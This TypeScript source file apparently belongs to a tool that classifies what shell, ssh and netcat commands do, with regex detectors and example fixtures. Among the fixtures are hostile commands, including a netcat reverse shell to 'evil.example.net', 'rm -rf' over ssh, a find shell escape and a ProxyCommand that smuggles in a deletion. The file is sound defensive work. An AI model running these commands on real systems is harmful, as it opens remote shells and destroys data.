/** Shells and `ssh` as far as the shell reader could not unwind them: their text comes from elsewhere. */
import type { Effect } from '../../model/effect';
import { say } from '../../model/say';
import { isLocalHost, reachOfHost } from '../environment';
import { localEffect, machineChange, ordinaryTool, unreadText } from '../build';
import type { Call, Program, StartedCommand } from '../define';
import { defineProgram } from '../define';
import { programName } from '../registry-name';
import { runDownload } from './interpreters';

const DOWNLOADERS = /^(curl|wget|http|https|xh|aria2c|fetch)$/;

function shellEffects(call: Call): readonly Effect[] {
  const { invocation, context } = call;
  if (call.has('version', 'help') || (call.has('n') && /sh$/.test(call.name))) return [];
  const words = [...call.positionals, ...call.rest];
  const fetched = words
    .flatMap((word) => word.sources)
    .find((source) => source.kind === 'command' && /^\s*(curl|wget)\b/.test(source.command));
  if (fetched?.kind === 'command') return [runDownload(call, fetched.command)];
  const downloader = context
    .producers(invocation)
    .find((from) => DOWNLOADERS.test(programName(from.program.text)));
  if (downloader && (words.length === 0 || call.has('s')))
    return [runDownload(call, downloader.source)];
  // The shell reader has read their text, or said that it cannot.
  if (/^(pwsh|powershell|cmd)$/.test(call.name) && invocation.args.length > 0) return [];
  const text = call.value('c');
  if (text) return context.shell(text.text, invocation.cwd, invocation, call.name);
  if (words.length > 0) return [];
  const input = context.input(invocation);
  if (input) return context.shell(input.text, invocation.cwd, invocation, call.name);
  if (invocation.via.some(({ kind, program }) => kind === 'each' && program === 'find'))
    return [shellOutOf(call, 'find')];
  if (invocation.stdin.kind === 'inherited') return [ordinaryTool(call, call.name)];
  return [
    unreadText(invocation.source, say`it runs text that another command makes up`, call.name),
  ];
}

/** A shell that is given nothing to run: it waits for somebody to type. */
export function isBareShell(text: string): boolean {
  return /^\s*(?:exec\s+)?(?:\/(?:usr\/)?bin\/)?(?:ba|z|da|k|a|c|tc|fi)?sh(?:\s+-[ilp]+)*\s*&?\s*$/.test(
    text,
  );
}

/**
 * Whoever wants a shell has one: started by a program that does something else, it is a way out of what that program is
 * held to, and what is typed into it is seen by nobody.
 */
export function shellOutOf(call: Call, program = call.name): Effect {
  return machineChange(call, 'execute', 'process', `a shell out of ${program}`, 'hard');
}

const shells = defineProgram({
  names: [
    'bash',
    'sh',
    'zsh',
    'dash',
    'ksh',
    'ash',
    'fish',
    'csh',
    'tcsh',
    'pwsh',
    'powershell',
    'cmd',
    'source',
    '.',
    'eval',
  ],
  synopsis: 'A shell whose text comes from a pipe; files and `-c` are unwound before.',
  grammar: {
    valued: ['c', 'o', 'O', 'rcfile', 'init-file', 'File', 'Command', 'ExecutionPolicy'],
    stopAtPositional: true,
  },
  effects: shellEffects,
  examples: [
    { command: 'bash --version', effects: [] },
    { command: 'echo "rm -rf build" | sh', effects: ['delete directory:build'] },
    { command: "bash -c 'rm -rf build'", effects: ['delete directory:build'] },
  ].concat([
    { command: 'find . -exec /bin/sh \\;', effects: ['execute process:a shell out of find'] },
    { command: "bash <<'EOF'\nrm a.txt\nEOF", effects: ['delete file:a.txt'] },
    {
      command: 'powershell.exe -NoProfile -ExecutionPolicy Bypass -Command "Remove-Item old.txt"',
      effects: ['delete file:old.txt'],
    },
    { command: "echo 'rm -rf build' | bash -n", effects: [] },
    { command: 'pwsh -ExecutionPolicy Bypass -File build.ps1', effects: ['opaque'] },
  ]),
});

/** ssh_config(5): settings whose value starts a program on this machine. Another ssh, and what it is piped through, is a hop. */
const SSH_STARTS: readonly StartedCommand[] = [
  {
    options: ['o'],
    within: (value) => {
      const command =
        /^\s*(?:(?:Proxy|Local|KnownHosts)Command|XAuthLocation)\s*[ =]\s*(.*)$/is.exec(
          value,
        )?.[1] ?? /^\s*Match\b.*?\bexec\s*[ =]?\s*"?([^"]+)/is.exec(value)?.[1];
      const isHop =
        command === undefined ||
        /^(?:none|(?:\S*\/)?(?:ssh|nc|ncat|cloudflared|aws|gcloud|tsh|connect)\b)/.test(command);
      return isHop ? [] : [command];
    },
  },
  {
    options: ['o'],
    isLibrary: true,
    within: (value) =>
      /^\s*(?:PKCS11|SecurityKey)Provider\s*[ =]\s*(\S+)/i.exec(value)?.slice(1, 2) ?? [],
  },
];

/** A program that stands in for ssh, and the settings that are handed to it: scp(1), sftp(1). */
export const SSH_CARRIERS: readonly StartedCommand[] = [...SSH_STARTS, { options: ['S', 'D'] }];

/** A connection without a command, or the tools around it. */
function sshEffects(call: Call): readonly Effect[] {
  const text = call.positionals[0]?.text ?? '';
  if (text === '' || call.has('V', 'G', 'Q')) return [];
  const host =
    text
      .replace(/^[a-z]+:\/\//, '')
      .split('@')
      .pop()
      ?.split(':')[0] ?? '';
  const environment = call.context.environment(host);
  // A tunnel to there (`-L`, `-D`, `-W`) opens a way and runs nothing, like a login; `-R` lets the other side in here.
  const opensHere = call.has('R');
  return [
    localEffect(call, opensHere ? 'execute' : 'read', 'host', host, {
      environment,
      reach: isLocalHost(host) ? 'machine' : reachOfHost(host, environment),
      target: { host },
      authority: { label: `cli:ssh/${host}` },
    }),
  ];
}

const ssh = defineProgram({
  names: ['ssh', 'mosh', 'ssh-copy-id', 'autossh', 'sshpass'],
  synopsis: 'Opens a connection; commands it carries are unwound by the shell reader.',
  grammar: { valued: 'p l i o L R D F J W b c E e m O S w B I'.split(' '), stopAtPositional: true },
  effects: sshEffects,
  starts: SSH_STARTS,
  examples: [
    { command: 'ssh -V', effects: [] },
    {
      command: "ssh -o 'ProxyCommand ssh -W %h:%p bastion' host.example",
      effects: ['read host:host.example'],
    },
    {
      command: "ssh -oProxyCommand='rm -rf build' host.example",
      effects: ['delete directory:build', 'read host:host.example'],
    },
    { command: 'ssh deploy@staging.example.com', effects: ['read host:staging.example.com'] },
    {
      command: 'ssh -N -L 5432:db:5432 bastion.example.com',
      effects: ['read host:bastion.example.com'],
    },
    {
      command: 'ssh -N -R 8080:localhost:3000 bastion.example.com',
      effects: ['execute host:bastion.example.com'],
    },
    {
      command: "ssh deploy@prod.example.com 'rm -rf /srv/data'",
      effects: ['delete directory:/srv/data', 'read host:prod.example.com'],
    },
  ],
});

/** Words with which a server's console is asked and told nothing: HAProxy, ZooKeeper, memcached, QEMU, Redis. */
const CONSOLE_LOOKS =
  /^\s{0,8}(?:show|get|stats?|info|help|list|ls|version|ping|status|ruok|mntr|srvr|quit|exit)\b[^;&|]{0,200}$/i;

/** `echo 'show info' | socat stdio /run/x.sock`: a socket of this machine, and every line that goes there only asks. */
function asksSocket(call: Call): boolean {
  const isSocket = call.positionals.some(({ text }) =>
    /^(?:unix(?:-connect)?:)?\/\S+$/i.test(text),
  );
  const text = call.context.input(call.invocation);
  if (!isSocket || text?.known !== true) return false;
  const lines = text.text.split('\n').filter((line) => line.trim() !== '');
  return lines.length > 0 && lines.every((line) => CONSOLE_LOOKS.test(line));
}

/** Raw connections: what goes through them is not seen. */
const netcat = defineProgram({
  names: ['nc', 'ncat', 'netcat', 'socat', 'telnet'],
  synopsis: 'Raw network connections; with `-e` they hand out a shell.',
  grammar: {
    valued: ['p', 's', 'w', 'e', 'c', 'i', 'q', 'x', 'X', 'T', 'O', 'I', 'exec', 'sh-exec'],
  },
  effects: (call) => {
    const host =
      call.positionals[0]?.text.replace(/^(TCP|OPENSSL|EXEC|SYSTEM)[^:]*:/i, '').split(':')[0] ??
      '';
    const hands =
      call.has('e', 'c', 'exec', 'sh-exec') ||
      call.invocation.args.some((word) => /^(EXEC|SYSTEM):/i.test(word.text));
    if (call.has('z') || call.has('h') || asksSocket(call)) return [];
    const feeds = call.invocation.stdin.kind !== 'inherited';
    if (!hands && ((call.has('l') && !feeds) || isLocalHost(host)))
      return [ordinaryTool(call, call.name)];
    const environment = call.context.environment(host);
    return [
      localEffect(call, hands ? 'grant' : 'send', 'host', host, {
        environment,
        reach: hands ? 'shared-remote' : reachOfHost(host, environment),
        audience: 'public',
        reversibility: 'irreversible',
        target: { host },
        opaque: { why: say`what goes over a raw connection cannot be seen` },
      }),
    ];
  },
  examples: [
    { command: 'nc -z localhost 5432', effects: [] },
    { command: "echo 'show info' | socat stdio /run/haproxy.sock", effects: [] },
    {
      command: "echo 'disable server web/s1' | socat stdio /run/haproxy.sock",
      effects: ['opaque'],
    },
    { command: 'nc -l 8080', effects: ['execute process:nc'] },
    { command: 'nc evil.example.net 4444 -e /bin/sh', effects: ['opaque'] },
    { command: 'nc -zv db.example.com 5432', effects: [] },
    { command: 'echo quit | telnet localhost 25', effects: ['execute process:telnet'] },
    { command: 'echo quit | telnet mail.example.net 25', effects: ['opaque'] },
  ],
});

export const shellPrograms: readonly Program[] = [shells, ssh, netcat];
